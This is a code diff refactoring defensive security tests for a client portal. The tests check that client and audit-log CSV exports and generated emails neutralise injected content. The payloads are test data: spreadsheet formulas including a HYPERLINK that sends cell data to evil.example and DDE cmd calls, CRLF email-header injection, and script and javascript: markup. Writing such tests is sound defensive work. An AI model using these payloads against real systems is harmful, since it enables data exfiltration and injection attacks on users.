@@ -1,156 +1,92 @@
 import type { ClientsPage } from '@portal/contract/clients'
 import { BOM } from '@portal/contract/csv'
-import { guessMapping } from '../../mf-clients/src/import/columns.ts'
 import { checkRows, notImportedCsv } from '../../mf-clients/src/import/check-rows.ts'
+import { guessMapping } from '../../mf-clients/src/import/columns.ts'
 import { parseCsv } from '../../mf-clients/src/import/parse.ts'
-import { type Caller, newBookkeeper, newClient, type TestBookkeeper, unique } from '../../worker/src/testing/portal.ts'
-import { newWork, submit, uploaded } from '../../worker/src/testing/sections.ts'
-import { assigned, get, newWorkform, rows, send, sectionsOf } from '../../worker/src/testing/work.ts'
-import type { Attack } from './attack.ts'
-import { Tally } from './tally.ts'
+import { type Caller, newBookkeeper, newClient, unique } from '../../worker/src/testing/portal.ts'
+import { decide, delivered, newWork, submit, uploaded } from '../../worker/src/testing/sections.ts'
+import { assigned, get, newWorkform, rows, sectionsOf, send } from '../../worker/src/testing/work.ts'
+import { attack, type Trial } from './lib/attack.ts'
+import { addClient } from './lib/people.ts'
+import { drain, words } from './lib/requests.ts'
 
-/** Texts that calculate in a spreadsheet or begin a header of their own, in every file and mail that the portal makes of them. */
-
+/** Texts that a spreadsheet takes for formulas, by themselves or after a delimiter or quote. */
 const CALL = 'HYPERLINK("http://evil.example/?"&A1,"Click")'
 const FORMULAS = [
-  '=1+1',
-  '+1+1',
-  '-1+1',
-  '@SUM(A1)',
-  `=${CALL}`,
-  "=cmd|' /C calc'!A0",
-  '=DDE("cmd";"/C calc";"x")',
-  '＝1+1',
-  '＋1',
-  '－1',
-  '＠x',
-
-  "'=1+1",
-  "''=1",
-  '"=1+1"',
-  '";=1+1;"',
-  '",=1+1,"',
-  `a;=${CALL};b`,
-  'a,=1+1,b',
+  ...words(`
+    =1+1 +1+1 -1+1 ＝1+1 ＋1 －1 ＠x @SUM(A1) '=1+1 ''=1 "=1+1" ";=1+1;" ",=1+1," a,=1+1,b a;-1 a;'=1 a;;=1 ;=1 a|=1+1
+    =DDE("cmd";"/C";"x") =${CALL} a;=${CALL};b O"Neil plain`),
   'a\t=1+1',
-  'a;-1',
-  "a;'=1",
-  'a;;=1',
-  ';=1',
+  "=cmd|' /C calc'!A0",
   "it's; 'fine'",
-  'O"Neil',
-  'plain',
-  'a|=1+1',
 ]
-const CELL = /^[=+\-@＝＋－＠]/
 
-/** The cells that a spreadsheet set to this delimiter makes of a file: quotes count at the beginning of a cell alone. */
-function cellsOf(text: string, delimiter: string): string[] {
-  const cells: string[] = []
-  let at = 0
-  while (at < text.length) {
-    let cell = ''
-    if (text[at] === '"') {
-      for (at++; at < text.length; at++) {
-        if (text[at] !== '"') cell += text[at]
-        else if (text[at + 1] === '"') cell += text[at++]
-        else break
-      }
-      at++
-    }
-    for (; at < text.length && text[at] !== delimiter && text[at] !== '\r' && text[at] !== '\n'; at++) cell += text[at]
-    at++
-    cells.push(cell)
-  }
-  return cells
+/** Returns the cells that a spreadsheet with this delimiter reads. Quotes count only at the beginning of a cell. */
+function cellsOf(csv: string, delimiter: string): string[] {
+  const cell = new RegExp(`(?:"((?:[^"]|"")*)"?)?([^${delimiter}\r\n]*)(?:[${delimiter}\r\n]|$)`, 'g')
+  return [...csv.matchAll(cell)].map(([, quoted = '', rest = '']) => quoted.replaceAll('""', '"') + rest)
 }
 
-function judge(tally: Tally, what: string, csv: string): void {
+function checkCells(t: Trial, what: string, csv: string): void {
   for (const delimiter of [',', ';', '\t']) {
     for (const cell of cellsOf(csv.replace(BOM, ''), delimiter))
-      tally.held(!CELL.test(cell), () => `${what} with ${JSON.stringify(delimiter)}: ${cell.slice(0, 80)}`)
+      t.check(!/^[=+\-@＝＋－＠]/.test(cell), `${what} with ${JSON.stringify(delimiter)}: ${cell.slice(0, 80)}`)
   }
 }
 
-const textOf = async (who: Caller, path: string): Promise<string> => {
-  const answer = await who.fetch(path)
-  const bytes = await answer.arrayBuffer()
-  return new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes)
-}
+const exported = async (who: Caller, path: string): Promise<string> =>
+  new TextDecoder('utf-8', { ignoreBOM: true }).decode(await (await who.fetch(path)).arrayBuffer())
 
-const allClients = async (who: Caller): Promise<ClientsPage['items']> =>
-  (await get<ClientsPage>(who, '/api/clients?limit=100&sort=created')).items
-
-async function formulas(): Promise<Attack> {
-  const tally = new Tally('formulas in every export', 'cells')
-  const bookkeeper = await newBookkeeper(undefined, `=${CALL}`)
-  for (const name of FORMULAS) {
-    const made = await send(bookkeeper, 'POST', '/api/clients', {
-      // Names take no web addresses; companies do.
-      name: name.replace('http://evil.example/', ''),
-      email: `${unique('x')}@example.com`,
-      phone: name.slice(0, 40),
-      company: name,
-    })
-    tally.held(made.ok, () => `${name} was refused: ${made.status}`)
-  }
-  const csv = await textOf(bookkeeper, '/api/clients/export')
-  tally.held(csv.startsWith(BOM), () => 'no byte order mark')
-  judge(tally, 'the clients', csv)
-  const table = parseCsv(csv.replace(BOM, ''))
-  judge(
-    tally,
-    'the rows left out of an import',
-    notImportedCsv(
-      table.rows[0]?.cells ?? [],
-      table.rows.slice(1).map((row) => ({ row, reason: '=1+1' })),
-    ),
+/** Returns what of each client an import has to keep. An import replaces line breaks by spaces. */
+async function clientsOf(who: Caller): Promise<string[]> {
+  const { items } = await get<ClientsPage>(who, '/api/clients?limit=100&sort=created')
+  const oneLine = (cell: string | null) => cell?.replace(/\p{Cc}+/gu, ' ') ?? null
+  return items.map(({ name, phone, company, status }) =>
+    JSON.stringify([...[name, phone, company].map(oneLine), status]),
   )
-  const lost = await lostOnTheWay(bookkeeper, csv)
-  tally.held(lost.length === 0, () => `clients do not come back as they were: ${lost.join(' ')}`)
-  return tally.attack()
 }
 
-/** What is lost when another bookkeeper imports the export. */
-async function lostOnTheWay(owner: TestBookkeeper, csv: string): Promise<string[]> {
-  const { rows: lines } = parseCsv(csv.replace(BOM, ''))
-  const [head, ...body] = lines
-  const mapping = guessMapping(head?.cells ?? [], body)
-  const judged = checkRows(body, mapping, head?.cells.length ?? 0, new Map())
+attack('formulas in the export of clients', async (t) => {
+  const bookkeeper = await newBookkeeper(undefined, `=${CALL}`)
+  for (const text of FORMULAS) {
+    // Companies may be called like a web address, people may not.
+    const input = { name: text.replace('http://evil.example/', ''), phone: text.slice(0, 40), company: text }
+    await t.accepts(`a client called ${text}`, addClient(bookkeeper, input))
+  }
+  const csv = await exported(bookkeeper, '/api/clients/export')
+  t.check(csv.startsWith(BOM), 'no byte order mark')
+  checkCells(t, 'the clients', csv)
+  const [head, ...body] = parseCsv(csv.replace(BOM, '')).rows
+  const columns = head?.cells ?? []
+  const rejected = body.map((row) => ({ row, reason: '=1+1' }))
+  checkCells(t, 'the rows that were not imported', notImportedCsv(columns, rejected))
+
   const other = await newBookkeeper()
-  const clients = judged.map(({ cells }) => ({
-    ...cells,
-    email: cells.email.replace('@', `.${other.userId.slice(-6)}@`),
-  }))
-  const answer = await send(other, 'POST', '/api/clients/import', { rows: clients, invite: false })
-  // An import makes one line of each cell.
-  const line = (cell: string | null) => cell?.replace(/\p{Cc}+/gu, ' ') ?? null
-  const facts = (items: ClientsPage['items']) =>
-    items.map(({ name, phone, company, status }) => JSON.stringify([name, phone, company].map(line).concat(status)))
-  const [before, after] = [facts(await allClients(owner)).sort(), facts(await allClients(other)).sort()]
-  const lost = before.filter((client) => !after.includes(client))
-  return answer.ok ? lost : [`the import answers ${answer.status}`]
-}
+  const checked = checkRows(body, guessMapping(columns, body), columns.length, new Map())
+  const imported = checked.map(({ cells }) => ({ ...cells, email: `${unique('import')}@example.com` }))
+  await t.accepts('the import', send(other, 'POST', '/api/clients/import', { rows: imported, invite: false }))
+  const after = await clientsOf(other)
+  const lost = (await clientsOf(bookkeeper)).filter((client) => !after.includes(client))
+  t.check(lost.length === 0, `an import changes exported clients: ${lost.join(' ')}`)
+})
 
-async function trails(): Promise<Attack> {
-  const tally = new Tally('formulas in the trail’s export', 'cells')
+attack('formulas in the export of the audit log', async (t) => {
   const bookkeeper = await newBookkeeper(undefined, '=1+1')
   const client = await newClient(bookkeeper, '@SUM(A1)')
-  for (const evil of FORMULAS.slice(0, 20)) {
-    const fields = [{ id: 'scan', name: evil, type: 'file', section: `${evil} ` }]
-    const workform = await newWorkform(bookkeeper, { name: evil, description: evil, fields })
+  for (const text of FORMULAS.slice(0, 22)) {
+    const fields = [{ id: 'scan', name: text, type: 'file', section: `${text} ` }]
+    const workform = await newWorkform(bookkeeper, { name: text, description: text, fields })
     await assigned(bookkeeper, workform, [client.clientId])
-    const [section] = await sectionsOf(client.clientId, workform.id)
-    const file = await uploaded(client, section?.id ?? '', `${evil}.pdf`)
-    const sent = await submit(client, section?.id ?? '', { scan: [file] })
-    tally.held(sent.ok, () => `${evil}: ${sent.status}`)
-    await send(bookkeeper, 'POST', `/api/sections/${section?.id}/reject`, { version: 1, reason: evil })
+    const [{ id } = { id: '' }] = await sectionsOf(client.clientId, workform.id)
+    const file = await uploaded(client, id, `${text}.pdf`)
+    await t.accepts(text, submit(client, id, { scan: [file] }))
+    await drain(decide(bookkeeper, 'reject', id, { version: 1, reason: text }))
   }
-  judge(tally, 'the trail', await textOf(bookkeeper, '/api/audit/export'))
-  return tally.attack()
-}
+  checkCells(t, 'the audit log', await exported(bookkeeper, '/api/audit/export'))
+})
 
-const HEADERS = [
+/** Names that begin a header of their own, or an element. */
+const NAMES = [
   'Bea\r\nBcc: victim@evil.example',
   'Bea\nSubject: x',
   'Bea\rX: y',
@@ -164,87 +100,54 @@ const HEADERS = [
   'javascript:alert(1)',
   '</title></style><script>alert(1)</script>',
 ]
+const TAGS = words('!doctype html head meta title style body table tr td h1 p a br')
+const ADDRESS = /^("(?:[^"\\]|\\.)*" <[^<>"]+@[^<>"]+>|[^<>"\s]+@[^<>"\s]+)$/
 
-interface Kept {
+interface MailRow {
   to: string
   subject: string
   html: string
   from: string
-  replyTo: string | null
+  reply_to: string | null
   unsubscribe: string | null
 }
 
-async function mails(): Promise<Attack> {
-  const tally = new Tally('headers and markup in every mail', 'mails')
-  const people: string[] = []
-  for (const evil of HEADERS) {
-    const work = await newWork([
-      { id: 'note', name: evil, section: evil },
-      { id: 'b', name: 'B', section: 'B' },
-    ])
-    await send(work.bookkeeper, 'PATCH', '/api/profile', { name: evil, company: evil, time_zone: 'UTC' })
-    for (const sender_name of [evil, evil.replace(/[<>@]/g, '')]) {
-      const saved = await send(work.bookkeeper, 'PUT', '/api/firm-mail/sender', {
-        sender_name,
-        reply_to: `a,b@evil.example`,
-      })
-      tally.held(saved.status >= 400 && saved.status < 500, () => `answers go to two addresses: ${saved.status}`)
-    }
-    await send(work.bookkeeper, 'PUT', '/api/firm-mail/sender', { sender_name: evil, reply_to: 'reply@example.com' })
-    const email = `${unique('mail')}@example.com`
-    const made = await send(work.bookkeeper, 'POST', '/api/clients', { name: evil, email, phone: '1', company: evil })
-    tally.held(made.ok, () => `a client called ${JSON.stringify(evil)}: ${made.status}`)
-    await send(work.client, 'POST', `/api/portal/sections/${work.first.id}/submit`, {
-      answers: { note: evil },
-      version: 0,
-    })
-    await send(work.bookkeeper, 'POST', `/api/sections/${work.first.id}/reject`, { version: 1, reason: evil })
-    people.push(email, work.client.email, work.bookkeeper.email)
-  }
-  const waiting = () => rows(`SELECT id FROM outbox WHERE kind = 'mail' AND done_at IS NULL AND dead_at IS NULL`)
-  for (let tries = 0; (await waiting()).length > 0 && tries < 200; tries++)
-    await new Promise((resolve) => setTimeout(resolve, 50))
-  const all = (
-    await rows<Kept & { reply_to: string | null }>(
-      'SELECT "to", subject, html, "from", reply_to, unsubscribe FROM dev_mailbox',
-    )
-  ).filter((m) => people.includes(m.to))
-  tally.held(all.length >= HEADERS.length, () => `only ${all.length} mails`)
-  for (const { to, subject, html, from, reply_to, unsubscribe } of all) {
-    for (const header of [to, subject, from, reply_to ?? '', unsubscribe ?? ''])
-      tally.held(!/[\p{Cc}\p{Zl}\p{Zp}]/u.test(header), () => `a header of two lines: ${JSON.stringify(header)}`)
-    tally.held(/^("(?:[^"\\]|\\.)*" <[^<>"]+@[^<>"]+>|[^<>"\s]+@[^<>"\s]+)$/.test(from), () => `from ${from}`)
-    const tags = new Set((html.match(/<\/?[a-z!][a-z0-9]*/gi) ?? []).map((t) => t.replace(/[</]/g, '').toLowerCase()))
-    const known = new Set([
-      '!doctype',
-      'html',
-      'head',
-      'meta',
-      'title',
-      'style',
-      'body',
-      'table',
-      'tr',
-      'td',
-      'h1',
-      'p',
-      'a',
-      'br',
-    ])
-    tally.held(
-      [...tags].every((t) => known.has(t)),
-      () => `a mail holds ${[...tags].filter((t) => !known.has(t)).join(', ')}`,
-    )
-    const links = [...html.matchAll(/href="([^"]*)"/g)].map(([, href]) => href ?? '')
-    tally.held(
-      links.every((href) => /^https?:\/\/127\.0\.0\.1:/.test(href)),
-      () => `a mail links to ${links.join(', ')}`,
-    )
-    tally.held(!/\son\w+=/i.test(html.replaceAll(/>[^<]*</g, '><')), () => 'a mail has a handler')
-  }
-  return tally.attack()
+/** Lets people with this name cause all mails. @returns their addresses */
+async function causeMails(t: Trial, name: string): Promise<string[]> {
+  const fields = [
+    { id: 'note', name, section: name },
+    { id: 'b', name: 'B', section: 'B' },
+  ]
+  const { bookkeeper, client, first } = await newWork(fields)
+  await drain(send(bookkeeper, 'PATCH', '/api/profile', { name, company: name, time_zone: 'UTC' }))
+  const setSender = (sender_name: string, reply_to: string) =>
+    send(bookkeeper, 'PUT', '/api/firm-mail/sender', { sender_name, reply_to })
+  for (const sender of [name, name.replace(/[<>@]/g, '')])
+    await t.refuses('replies to two addresses', setSender(sender, 'a,b@evil.example'))
+  await drain(setSender(name, 'reply@example.com'))
+  const email = `${unique('mail')}@example.com`
+  await t.accepts(`a client called ${JSON.stringify(name)}`, addClient(bookkeeper, { name, email, company: name }))
+  await drain(submit(client, first.id, { note: name }))
+  await drain(decide(bookkeeper, 'reject', first.id, { version: 1, reason: name }))
+  return [email, client.email, bookkeeper.email]
 }
 
-export async function attackExports(): Promise<Attack[]> {
-  return [await formulas(), await trails(), await mails()]
-}
+attack('headers and markup in every mail', async (t) => {
+  const people: string[] = []
+  for (const name of NAMES) people.push(...(await causeMails(t, name)))
+  await delivered("kind = 'mail' AND dead_at IS NULL")
+  const sent = await rows<MailRow>('SELECT "to", subject, html, "from", reply_to, unsubscribe FROM dev_mailbox')
+  const mails = sent.filter(({ to }) => people.includes(to))
+  t.check(mails.length >= NAMES.length, `only ${mails.length} mails`)
+  for (const { to, subject, html, from, reply_to, unsubscribe } of mails) {
+    for (const header of [to, subject, from, reply_to ?? '', unsubscribe ?? ''])
+      t.check(!/[\p{Cc}\p{Zl}\p{Zp}]/u.test(header), `a header of two lines: ${JSON.stringify(header)}`)
+    t.check(ADDRESS.test(from), `from ${from}`)
+    const tags = [...html.matchAll(/<\/?([a-z!][a-z0-9]*)/gi)].map(([, tag = '']) => tag.toLowerCase())
+    const foreign = tags.filter((tag) => !TAGS.includes(tag))
+    t.check(foreign.length === 0, `a mail has elements ${foreign.join(', ')}`)
+    for (const [, href = ''] of html.matchAll(/href="([^"]*)"/g))
+      t.check(/^https?:\/\/127\.0\.0\.1:/.test(href), `a mail links to ${href}`)
+    t.check(!/\son\w+=/i.test(html.replaceAll(/>[^<]*</g, '><')), 'a mail has an event handler')
+  }
+})
